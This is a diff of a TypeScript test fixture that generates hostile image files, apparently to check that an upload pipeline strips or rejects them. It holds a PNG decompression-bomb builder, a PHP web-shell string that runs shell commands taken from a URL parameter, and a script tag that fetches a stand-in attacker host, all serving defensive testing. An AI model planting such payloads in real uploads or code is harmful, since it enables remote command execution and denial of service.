@@ -2,7 +2,7 @@ import { crc32, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 
 const SIDE = 240;
-/** Noise, so that a file that is cut lacks something. */
+/** Noise, so that a truncated file lacks something. */
 const noise = Buffer.from(Array.from({ length: SIDE * SIDE * 3 }, (_, i) => (i * 7919 + ((i * i) % 251)) % 256));
 const photo = (width = SIDE, height = SIDE) =>
   width === SIDE && height === SIDE
@@ -17,7 +17,7 @@ const chunk = (type: string, data: Buffer): Buffer => {
   return Buffer.concat([length, body, sum]);
 };
 
-/** A PNG that says it is so large; its pixels are nothing, well packed. */
+/** A PNG that states this size; its pixels are compressed zeros. */
 const bomb = (width: number, height: number, bytes: number): Buffer => {
   const head = Buffer.alloc(13);
   head.writeUInt32BE(width, 0);
@@ -28,16 +28,15 @@ const bomb = (width: number, height: number, bytes: number): Buffer => {
   return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
 };
 
-/** The text chunk that nothing needs, before the end of a PNG. */
 const withText = (png: Buffer, text: string): Buffer =>
   Buffer.concat([png.subarray(0, -12), chunk('tEXt', Buffer.from(`Comment\0${text}`, 'latin1')), png.subarray(-12)]);
 
-/** What must be found in nothing that is kept. */
+/** A mark that no stored file may contain. */
 export const MARK = 'jejak-rahasia-4711';
 const PHP = `<?php system($_GET["c"]); /* ${MARK} */ ?>`;
 const SCRIPT = `<script>fetch("https://evil.example/${MARK}")</script>`;
 
-/** Some sixty files that nobody should keep as they are, each with its name; made here, so that none of them lies anywhere. */
+/** About sixty files that must not be stored as they are; generated, so that none lies in the repository. */
 export const hostilePhotos = async (): Promise<[name: string, file: Buffer][]> => {
   const jpeg = await photo().jpeg().toBuffer();
   const png = await photo().png().toBuffer();
